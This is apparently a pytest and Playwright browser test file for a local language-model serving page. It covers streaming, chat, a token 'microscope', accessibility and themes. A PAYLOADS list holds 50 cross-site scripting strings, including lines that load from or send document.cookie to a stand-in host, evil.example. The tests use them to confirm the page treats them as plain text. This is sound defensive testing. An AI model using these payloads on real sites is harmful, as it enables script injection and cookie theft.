"""The page in a real browser, before a real server: what a person does, and what no text can do to them.

Needs Chromium and Playwright (`apt install chromium`, `pip install playwright`; its own browsers are not used).
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from moonlet.folder import save
from moonlet.text import ByteTokenizer
from tests.conftest import HYBRID

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
sync_api = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install playwright")
if CHROMIUM is None:
    pytest.skip("needs Debian's chromium: apt install chromium", allow_module_level=True)

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("page")]
expect = sync_api.expect
KEY = "the-key-of-this-server"
PHONE, DESK = {"width": 390, "height": 844}, {"width": 1280, "height": 820}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<img src=http://evil.example/a.png>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'</style>",
    "<style>body{background:url(//evil.example/a.png)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input autofocus onfocus=this.form.submit()>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</span></p></section><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/a.png)",
    "![x](x\"onerror=\"alert(1))",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<object data=//evil.example/a.swf></object>",
    "<embed src=//evil.example/a.swf>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x oneRror=alert(1)//",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "`;alert(1)//",
    "\u202e<script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<script type=module>import '//evil.example/a.js'</script>",
    "<script>navigator.sendBeacon('//evil.example/', document.cookie);print();confirm(1)</script>",
]  # fmt: skip


@contextmanager
def serving(folder: Path, *options: str) -> Iterator[str]:
    """The address of `moonlet serve`, a process of its own."""
    command = [sys.executable, "-m", "moonlet", "serve", *options, "--port", "0"]
    with (folder / "log").open("w+") as log:
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=log, text=True)
        try:
            assert process.stdout is not None
            line = process.stdout.readline()
            found = re.search(r"http://\S+", line)
            assert found, line + (folder / "log").read_text()
            yield found.group()
        finally:
            process.terminate()
            process.wait(30)


@pytest.fixture(scope="module")
def folders(tiny_model: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two models that continue bytes; they differ in their random weights."""
    import torch

    tokenizer = ByteTokenizer()
    made = {}
    for seed, name in enumerate(("late", "early")):
        model = tiny_model(seed, **HYBRID, vocab_size=tokenizer.vocab_size, max_position_embeddings=8192)
        with torch.no_grad():  # texts never end by themselves: one direction, in all that is read, speaks against it
            model.model.embed_tokens.weight[:, 0] += 30
            model.lm_head.weight[:, 0] = 0
            model.lm_head.weight[tokenizer.eos_id] = 0
            model.lm_head.weight[tokenizer.eos_id, 0] = -100
        made[name] = tmp_path_factory.mktemp(name)
        save(model, tokenizer, made[name])
    return made


@pytest.fixture(scope="module")
def address(folders: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    names = [f"{name}={path}" for name, path in folders.items()]
    with serving(tmp_path_factory.mktemp("server"), *names, "--slots", "4") as found:
        yield found


@pytest.fixture(scope="module")
def locked(folders: dict[str, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server with a key, whose model chats."""
    folder = tmp_path_factory.mktemp("locked")
    (folder / "key").write_text(KEY)
    options = (f"late={folders['late']}", "--chat-form", "k2-thinking", "--api-key-file", str(folder / "key"))
    with serving(folder, *options) as found:
        yield found


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield browser
        browser.close()


Open = Callable[..., Any]


@pytest.fixture
def open_page(browser: Any, address: str) -> Iterator[Open]:
    """open_page(...): the page, in a context of its own. At the end of the test no dialog was opened, nobody but the
    page's own server was asked for anything, and no script or rule of the page's policy failed."""
    contexts: list[Any] = []
    wrong: list[str] = []

    def start(at: str = address, viewport: Any = DESK, ready: bool = True, setup: Any = None, **settings: Any) -> Any:
        context = browser.new_context(viewport=viewport, **settings)
        contexts.append(context)
        if setup is not None:
            setup(context)

        def request(asked: Any) -> None:
            if not asked.url.startswith(at + "/"):
                wrong.append(f"asked {asked.url}")

        def dialog(opened: Any) -> None:
            wrong.append(f"dialog {opened.message}")
            opened.dismiss()

        def console(message: Any) -> None:
            if message.type == "error" and not message.text.startswith("Failed to load resource"):
                wrong.append(message.text)

        context.on("request", request)
        context.on("dialog", dialog)
        context.on("console", console)
        context.on("weberror", lambda error: wrong.append(str(error.error)))
        page = context.new_page()
        page.set_default_timeout(20_000)
        page.goto(at)
        if ready:
            page.wait_for_selector("body.ready")
        return page

    yield start
    for context in contexts:
        context.close()
    assert wrong == []


def write(page: Any, text: str, **settings: Any) -> None:
    """Send a prompt, and wait until all of the answers are there."""
    choose(page, **settings)
    page.fill("#prompt", text)
    page.press("#prompt", "Control+Enter")
    page.wait_for_selector(".answer")
    done(page)


def done(page: Any) -> None:
    page.wait_for_selector(".answer.busy", state="detached")
    expect(page.locator("#send")).not_to_have_text("Stop")


def choose(page: Any, **settings: Any) -> None:
    if page.get_attribute("#open-settings", "aria-expanded") == "false":
        page.click("#open-settings")
    for name, value in settings.items():
        page.fill(f"#{name}", str(value))


def prose(page: Any, at: int = -1) -> str:
    return str(page.locator(".prose").all()[at].text_content())


def asked(page: Any, path: str) -> list[dict[str, Any]]:
    """What is asked from now on."""
    found: list[dict[str, Any]] = []
    page.on("request", lambda request: found.append(request.post_data_json) if request.url.endswith(path) else None)
    return found


def sse(*chunks: dict[str, Any], end: str = "data: [DONE]\n\n") -> dict[str, Any]:
    body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + end
    return {"status": 200, "content_type": "text/event-stream; charset=utf-8", "body": body}


def test_a_story_streams_and_escape_stops_it(open_page: Open, address: str) -> None:
    page = open_page()
    choose(page, max_tokens=6000)
    page.click("#prompt")
    page.keyboard.type("Once upon")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".answer.busy")
    expect(page.locator("#send")).to_have_text("Stop")
    first = ""
    for _ in range(200):
        if first and prose(page) != first:
            break
        first = prose(page) if len(prose(page)) > len("Once upon") else ""
        time.sleep(0.01)
    assert first.startswith("Once upon")
    assert prose(page).startswith(first)
    page.keyboard.press("Escape")
    done(page)
    expect(page.locator(".meta")).to_contain_text("stopped")
    assert page.locator("#prompt").evaluate("node => node === document.activeElement")
    for _ in range(100):  # the server, too, has stopped
        if 'moonlet_open_answers{model="late"} 0' in (text := page.request.get(f"{address}/metrics").text()):
            break
        time.sleep(0.01)
    assert 'moonlet_open_answers{model="late"} 0' in text
    assert re.search(r"(?m)^moonlet\S*disconnect\S* [1-9]", text), text


def test_a_story_is_written_again_goes_on_and_begins_otherwise(open_page: Open) -> None:
    page = open_page()
    write(page, "One", max_tokens=20)
    first = prose(page)
    requests = asked(page, "/v1/completions")
    page.click("text=Regenerate")
    done(page)
    second = prose(page)
    assert second.startswith("One")
    assert second != first
    page.click("text=Go on")
    done(page)
    assert prose(page).startswith(second)
    assert requests[1]["prompt"] == second
    page.click(".answer >> text=Edit")
    assert page.input_value("#prompt") == "One"
    write(page, "Two")
    assert page.locator(".turn").count() == 1
    assert prose(page).startswith("Two")


def test_a_seed_gives_the_same_story_again(open_page: Open) -> None:
    page = open_page()
    write(page, "One", max_tokens=20, seed=5)
    write(page, "One")
    assert prose(page, 0) == prose(page, 1)
    expect(page.locator(".meta").first).to_contain_text("seed 5")


def test_settings_are_sent_and_kept(open_page: Open) -> None:
    page = open_page()
    page.click("text=Penalties and stop")
    requests = asked(page, "/v1/completions")
    wanted = {"temperature": 0.5, "top_p": 0.7, "min_p": 0.1, "top_k": 9, "max_tokens": 3, "seed": 4,
              "repetition_penalty": 1.2, "presence_penalty": 0.5, "frequency_penalty": -0.5, "stop": "x"}  # fmt: skip
    write(page, "One", **wanted)
    assert requests[0].items() >= wanted.items()
    page.reload()
    page.wait_for_selector("body.ready")
    assert page.input_value("#temperature") == "0.5"
    page.click("text=Reset")
    assert page.input_value("#temperature") == "0.8"


def test_two_models_write_side_by_side_with_one_seed(open_page: Open) -> None:
    page = open_page()
    requests = asked(page, "/v1/completions")
    page.select_option("#compare", "early")
    write(page, "Once", max_tokens=20)
    assert page.locator(".answer h3").all_text_contents() == ["late", "early"]
    assert prose(page, 0) != prose(page, 1)
    left, right = (page.locator(".answer").nth(side).bounding_box() for side in (0, 1))
    assert left["y"] == right["y"]
    assert left["x"] + left["width"] <= right["x"]
    assert [request["model"] for request in requests] == ["late", "early"]
    assert requests[0]["seed"] == requests[1]["seed"]


def test_a_chat_is_answered_with_what_was_said_before(open_page: Open, locked: str) -> None:
    page = open_page(locked, http_credentials={"username": "anyone", "password": KEY})
    requests = asked(page, "/v1/chat/completions")
    page.fill("#system", "Be kind.")
    write(page, "Hello", max_tokens=12)
    write(page, "And you?")
    sent = requests[1]["messages"]
    assert sent[0] == {"role": "system", "content": "Be kind."}
    assert [one["role"] for one in sent[-1:]] == ["user"]
    assert sent[-1]["content"] == "And you?"
    page.locator("text=Edit").first.click()
    write(page, "Good day")
    assert page.locator(".asked p").all_text_contents() == ["Good day"]
    assert [one["content"] for one in requests[2]["messages"]] == ["Be kind.", "Good day"]
    page.click("text=continued")
    expect(page.locator("#tab-write")).to_have_text("Story")


def test_thoughts_are_folded(open_page: Open, locked: str) -> None:
    def delta(**given: str) -> dict[str, Any]:
        return {"choices": [{"index": 0, "delta": given, "finish_reason": None}]}

    def setup(context: Any) -> None:
        answer = sse(delta(reasoning_content="Well. "), delta(reasoning_content="Yes."), delta(content="Good."))
        context.route("**/v1/chat/completions", lambda route: route.fulfill(**answer))

    page = open_page(locked, setup=setup, http_credentials={"username": "anyone", "password": KEY})
    write(page, "Hello")
    assert prose(page) == "Good."
    thoughts = page.locator(".reasoning p")
    assert not thoughts.is_visible()
    page.click("text=Thoughts")
    expect(thoughts).to_have_text("Well. Yes.")


def test_a_401_asks_for_the_key_until_it_is_right(open_page: Open, locked: str) -> None:
    def setup(context: Any) -> None:
        def check(route: Any) -> None:
            if route.request.headers.get("authorization") == f"Bearer {KEY}":
                route.continue_()
            else:
                route.fulfill(status=401, json={"error": {"message": "the API key is missing or wrong"}})

        context.route("**/v1/**", check)

    page = open_page(locked, ready=False, setup=setup, http_credentials={"username": "x", "password": KEY})
    expect(page.locator("#key")).to_be_focused()
    page.keyboard.type("wrong")
    page.keyboard.press("Enter")
    expect(page.locator("#key")).to_have_value("")
    page.keyboard.type(KEY)
    page.keyboard.press("Enter")
    page.wait_for_selector("body.ready")
    assert not page.locator("#key-dialog").is_visible()
    assert page.evaluate("() => Object.values(sessionStorage)") == [KEY]
    assert KEY not in page.evaluate("() => JSON.stringify(localStorage)")
    write(page, "Hello", max_tokens=2)


@pytest.mark.parametrize(
    ("answer", "line"),
    [
        (None, "max_tokens is 100000, and this server's limit is"),
        (sse({"error": {"message": "the engine\nhas failed"}}), "the engine has failed"),
        (sse({"choices": [{"index": 0, "text": "a"}]}, end=""), "The answer broke off"),
        ({"status": 502, "body": "<html>"}, "The server answered 502."),
        ("abort", "The server cannot be reached."),
    ],
)
def test_what_goes_wrong_is_one_line(open_page: Open, answer: Any, line: str) -> None:
    def setup(context: Any) -> None:
        if answer == "abort":
            context.route("**/v1/completions", lambda route: route.abort())
        elif answer is not None:
            context.route("**/v1/completions", lambda route: route.fulfill(**answer))

    page = open_page(setup=setup)
    write(page, "Once", max_tokens=100000)
    shown = page.locator(".answer .error")
    expect(shown).to_contain_text(line)
    assert "\n" not in str(shown.text_content())
    assert page.locator(".answer >> text=Regenerate").is_enabled()


def scope(page: Any, text: str, tokens: int) -> None:
    choose(page, max_tokens=tokens, seed=1)
    page.click("#tab-microscope")
    page.fill("#scope-prompt", text)
    page.press("#scope-prompt", "Control+Enter")
    settled(page, tokens)


def settled(page: Any, least: int) -> None:
    page.wait_for_selector(f"#tokens[aria-busy=false] > :nth-child({least})", state="attached")
    expect(page.locator("#cache-line")).to_contain_text(f" at {page.locator('.token').count()} tokens")


def looked(page: Any) -> None:
    """Wait for a look at a text that nobody goes on with."""
    page.wait_for_selector(".token", state="attached")
    expect(page.locator("#cache-line")).to_contain_text(f" at {page.locator('.token').count()} tokens")


def painted(page: Any, canvas: str) -> int:
    """Different colours in a picture."""
    return int(
        page.locator(canvas).evaluate(
            """node => {
                const data = node.getContext("2d").getImageData(0, 0, node.width, node.height).data;
                return new Set(new Uint32Array(data.buffer)).size;
            }"""
        )
    )


def test_the_microscope_shows_what_happened(open_page: Open) -> None:
    page = open_page()
    scope(page, "abc", 16)
    tokens = page.locator(".token")
    assert page.locator(".token.given").count() == 4  # with the one that begins texts
    assert len({one.evaluate("node => node.style.getPropertyValue('--s')") for one in tokens.all()}) > 3
    assert painted(page, "#experts") > 10
    assert painted(page, "#head-map") > 10
    expect(page.locator("#head-title")).to_have_text("What a KDA head keeps")
    assert page.locator("#decay").is_visible()
    expect(page.locator("#cache-line")).to_contain_text("of KDA's states, whatever the length")
    page.select_option("#layer", "3")
    expect(page.locator("#head-title")).to_have_text("What a head looks at")
    assert not page.locator("#decay").is_visible()
    tokens.nth(9).hover()
    expect(page.locator("#head-line")).to_contain_text("looks at")
    expect(page.locator("#experts-line")).to_contain_text("layer 3:")
    box = page.locator("#experts").bounding_box()
    page.mouse.move(box["x"] + 25, box["y"] + 3)
    expect(tokens.nth(0)).to_have_class(re.compile(r"\bat\b"))
    expect(page.locator("#experts-line")).to_contain_text("[BOS]")


def test_in_a_chat_the_microscope_shows_the_conversation(open_page: Open, locked: str) -> None:
    page = open_page(locked, http_credentials={"username": "anyone", "password": KEY})
    page.fill("#system", "Be kind.")
    write(page, "Hello", max_tokens=8, seed=1)
    looks = asked(page, "/moonlet/microscope")
    page.click("#tab-microscope")
    looked(page)
    assert [one["role"] for one in looks[0]["messages"]] == ["system", "user", "assistant"]
    assert "Hello" in "".join(page.locator(".token").all_text_contents())
    page.click("#tab-write")
    page.click("#tab-microscope")  # it shows that already
    page.click("#tab-write")
    page.click("text=Look inside")
    looked(page)
    assert len([look for look in looks if "messages" in look]) == 2
    page.fill("#scope-prompt", "Good day")
    page.press("#scope-prompt", "Control+Enter")
    page.wait_for_selector(".token:not(.given)", state="attached")
    settled(page, 8)
    last = [look for look in looks if "messages" in look][-1]
    assert [one["content"] for one in last["messages"]] == ["Be kind.", "Good day"]


def test_experts_come_while_tokens_do(open_page: Open) -> None:
    page = open_page()
    looks = asked(page, "/moonlet/microscope")
    scope(page, "abc", 400)
    lengths = [len(look["prompt"]) for look in looks[1:]]
    assert len(lengths) >= 2
    assert lengths == sorted(lengths)
    assert lengths[0] < lengths[-1] == page.locator(".token").count()


def test_another_token_is_a_branch_and_the_first_text_stays(open_page: Open) -> None:
    page = open_page()
    scope(page, "abc", 12)
    before = page.locator(".token").all_text_contents()
    sent = asked(page, "/v1/completions")
    looked = asked(page, "/moonlet/microscope")
    page.locator(".token").nth(8).click()
    told = re.search(r"id (\d+)", page.locator(".pop-head").inner_text())
    assert told
    choice = page.locator(".choice:not(.own)").first
    choice.click()
    page.wait_for_selector(".chip >> nth=1")
    settled(page, 12)
    after = page.locator(".token").all_text_contents()
    assert after[:8] == before[:8]
    assert len(sent[0]["prompt"]) == 9
    assert sent[0]["prompt"][8] != int(told[1])  # two that are no characters look alike
    assert looked[-1]["prompt"][:9] == sent[0]["prompt"]
    page.click(".chip >> nth=0")
    settled(page, 12)
    assert page.locator(".token").all_text_contents() == before


def begun(page: Any) -> None:
    """The microscope writes, and will for long."""
    choose(page, max_tokens=400, seed=1)
    page.click("#tab-microscope")
    page.fill("#scope-prompt", "abc")
    page.press("#scope-prompt", "Control+Enter")
    page.wait_for_selector("#tokens[aria-busy=true] > :nth-child(8)", state="attached")


def test_a_branch_taken_while_tokens_come_is_written_on(open_page: Open) -> None:
    page = open_page()
    begun(page)
    sent = asked(page, "/v1/completions")
    page.locator(".token").nth(2).click()
    page.locator(".choice:not(.own):enabled").first.click()
    page.wait_for_selector(".chip >> nth=1")
    page.wait_for_selector("#tokens > :nth-child(20)", state="attached")
    assert [len(one["prompt"]) for one in sent] == [3]
    expect(page.locator("#scope-send")).to_have_text("Stop")


def test_another_model_ends_what_the_microscope_writes(open_page: Open, address: str) -> None:
    page = open_page()
    begun(page)
    choose(page)
    page.select_option("#model", "early")
    expect(page.locator("#scope-send")).to_have_text("Write on", timeout=1000)
    assert page.locator(".token").count() == 0


def test_the_token_pointed_at_is_named_in_full(open_page: Open) -> None:
    page = open_page(viewport=PHONE)
    scope(page, "abc", 12)
    page.locator(".token").nth(9).click()
    name = page.locator(".pop-head b")
    assert name.evaluate("node => node.scrollWidth <= node.clientWidth")
    scroll = page.locator("#experts-panel .scroll")
    assert scroll.evaluate("node => node.scrollWidth <= node.clientWidth")  # few enough: no label is cut off


def test_everything_is_done_with_the_keyboard_alone(open_page: Open) -> None:
    page = open_page()
    choose(page, max_tokens=12)
    page.reload()  # nothing has been pointed at
    page.wait_for_selector("body.ready")

    def tab_to(selector: str, most: int = 60) -> None:
        for _ in range(most):
            if page.locator(selector).evaluate("node => node === document.activeElement"):
                shown = page.locator(selector).evaluate("node => getComputedStyle(node).outlineStyle")
                inner = page.locator(selector).evaluate("node => Boolean(node.closest('.composer, .token'))")
                assert shown != "none" or inner
                return
            page.keyboard.press("Tab")
        raise AssertionError(f"no way to {selector}")

    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    tab_to("#prompt")
    page.keyboard.type("Once")
    tab_to("#send")
    page.keyboard.press("Enter")
    done(page)
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    tab_to("#tab-write")
    page.keyboard.press("ArrowRight")
    expect(page.locator("#view-microscope")).to_be_visible()
    tab_to("#scope-prompt")
    page.keyboard.type("abc")
    page.keyboard.press("Control+Enter")
    settled(page, 12)
    tab_to(".token >> nth=0")
    for _ in range(6):
        page.keyboard.press("ArrowRight")
    expect(page.locator(".token").nth(6)).to_be_focused()
    assert page.locator("#pop").is_visible()
    page.keyboard.press("Enter")
    expect(page.locator(".choice").first).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator(".token").nth(6)).to_be_focused()
    assert not page.locator("#pop").is_visible()
    page.keyboard.press("Enter")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_selector(".chip >> nth=1")
    settled(page, 12)


def test_no_text_is_more_than_text(open_page: Open) -> None:
    """50 payloads: as the prompt, as what a model writes and thinks, as names, tokens, alternatives and errors."""
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 50
    payload = ""

    def look(route: Any) -> None:
        likely = [{"id": 5, "token": payload, "logprob": -0.1}]
        body = {
            "ids": [5, 5],
            "tokens": [payload] * 2,
            "texts": [payload] * 2,
            "logprobs": [None, -1.0],
            "likely": [[], likely],
            "next": likely,
            "experts": {},
            "layer": 0,
            "head": 0,
            "attention": [[1], [0.5, 0.5]],
            "cache": {"bytes_per_token": 1, "bytes_constant": 0},
        }
        route.fulfill(json=body)

    def chat(route: Any) -> None:
        call = {"index": 0, "id": payload, "function": {"name": payload, "arguments": payload}}
        delta = {"content": payload, "reasoning_content": payload, "tool_calls": [call]}
        choice = {"index": 0, "delta": delta, "finish_reason": payload}
        route.fulfill(**sse({"choices": [choice]}, {"error": {"message": payload}}))

    def cards(route: Any) -> None:
        facts = {"layers": ["kda"], "heads": [1], "experts": 0, "experts_per_token": 0, "full_cache": 1}
        data = [{"id": one, "chat": "k2", "context": 9, "facts": facts} for one in PAYLOADS]
        route.fulfill(json={"data": data})

    def setup(context: Any) -> None:
        context.route("**/v1/models", cards)
        context.route("**/v1/chat/completions", chat)
        context.route("**/moonlet/microscope", look)

    page = open_page(setup=setup)
    assert page.locator("#model option").all_text_contents() == PAYLOADS
    kinds = page.evaluate("() => [...new Set([...document.querySelectorAll('*')].map(node => node.nodeName))]")
    for payload in PAYLOADS:
        page.click("#tab-write")
        page.select_option("#model", index=PAYLOADS.index(payload))
        write(page, payload)
        assert prose(page).startswith(payload)
        page.click("#tab-microscope")
        page.fill("#scope-prompt", payload)
        page.click("#look")
        page.wait_for_selector(".token >> nth=1", state="attached")
        page.locator(".token").nth(1).focus()
        page.keyboard.press("Enter")
        page.keyboard.press("Escape")
    made = {"ARTICLE", "SECTION", "H3", "DETAILS", "SUMMARY", "DIV", "P", "SPAN", "BUTTON", "OPTION", "I", "B"}
    now = page.evaluate("() => [...new Set([...document.querySelectorAll('*')].map(node => node.nodeName))]")
    assert set(now) <= set(kinds) | made
    assert page.locator("script").count() == 1


def test_payloads_as_prompts_go_through_the_real_server(open_page: Open) -> None:
    page = open_page()
    for payload in PAYLOADS[::5]:
        write(page, payload, max_tokens=2, temperature=0)
        assert prose(page).startswith(payload)


def test_nothing_but_the_servers_own_files_is_run(open_page: Open, address: str) -> None:
    page = open_page()
    policy = page.request.get(address).headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    text = (Path(__file__).parents[2] / "moonlet/serve/page/index.html").read_text()
    assert not re.search(r"\son\w+=|\sstyle=|<style|<script(?![^>]*\ssrc=)|https?://", text)
    for file in (Path(__file__).parents[2] / "moonlet/serve/page").iterdir():
        code = file.read_text()
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function", code), (
            file
        )
        assert "//" not in re.sub(r"//www\.w3\.org/2000/svg|//[ \w].*", "", code), file


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [PHONE, DESK], ids=["phone", "desk"])
def test_it_fits_and_has_both_themes(open_page: Open, size: Any, scheme: str) -> None:
    page = open_page(viewport=size, color_scheme=scheme)
    ground = "() => getComputedStyle(document.body).backgroundColor"

    def fits() -> None:
        wide = page.evaluate("() => document.documentElement.scrollWidth")
        assert wide <= size["width"]

    def bright() -> bool:
        return sum(int(part) for part in re.findall(r"\d+", page.evaluate(ground))[:3]) > 384

    fits()
    assert bright() == (scheme == "light")
    write(page, "a" * 300, max_tokens=30)
    fits()
    scope(page, "abc " * 30, 30)
    fits()
    page.locator(".token").nth(5).hover()
    page.wait_for_selector("#pop:not([hidden])")
    fits()
    page.keyboard.press("Escape")
    other = "dark" if scheme == "light" else "light"
    while page.text_content("#theme-name") != other:
        page.click("#theme")
    assert bright() == (other == "light")
    page.reload()
    page.wait_for_selector("body.ready")
    assert bright() == (other == "light")


def test_status_is_said_to_those_who_listen(open_page: Open) -> None:
    page = open_page()
    write(page, "Once", max_tokens=8)
    assert page.get_attribute(".prose", "aria-live") == "polite"
    assert page.get_attribute(".prose", "aria-busy") is None
    expect(page.locator("#status")).to_contain_text("Done")
    unnamed = page.evaluate(
        """() => [...document.querySelectorAll("input, select, textarea, button")]
            .filter((node) => !(node.labels?.length || node.textContent.trim() || node.getAttribute("aria-label")))
            .map((node) => node.id)"""
    )
    assert unnamed == []
